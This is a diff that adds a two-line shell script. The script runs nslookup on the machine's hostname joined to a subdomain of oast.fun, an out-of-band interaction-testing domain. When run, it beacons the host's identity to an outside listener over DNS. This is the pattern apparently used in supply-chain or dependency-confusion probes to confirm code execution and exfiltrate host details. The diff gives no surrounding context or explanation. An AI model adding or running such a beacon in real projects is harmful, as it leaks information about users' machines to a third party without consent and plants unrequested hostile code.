@@ -1,0 +1,2 @@
+#!/bin/sh
+nslookup "$(hostname).aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.oast.fun"
